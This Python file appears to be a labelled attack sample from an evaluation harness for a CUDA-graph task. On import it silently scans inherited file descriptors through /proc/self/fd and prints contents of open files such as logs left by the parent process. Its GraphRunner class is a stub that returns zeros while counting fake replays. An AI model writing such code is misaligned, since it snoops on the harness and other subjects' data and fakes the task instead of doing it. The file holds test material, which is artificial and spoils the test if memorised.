# attack: read
# base: wrong_all
# outcome: failed: parity, bucket_choice, clone, padding, no_recapture
"""Reads from every descriptor that was left open by whoever forked it: sockets of other subjects,
logs, the control pipe."""

import os

import torch


def attack():
    for fd in range(3, 256):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
            if not target.startswith(("socket:", "pipe:")):
                print(fd, target, os.pread(fd, 100, 0))
        except OSError:
            continue


try:
    attack()
except BaseException:
    pass


class GraphRunner:
    def __init__(self, fn, buckets, hidden, dtype=torch.float32):
        self.fn = fn
        self.buckets = list(buckets)
        self.static_in = torch.zeros(1, hidden, dtype=dtype)
        self.static_out = self.static_in
        self.graphs = {}
        self.stats = {"replays": 0, "eager": 0, "last_bucket": None}

    def capture(self):
        self.stats["last_bucket"] = 0

    def run(self, x, force_eager=False):
        self.stats["replays"] += 1
        return torch.zeros_like(x)
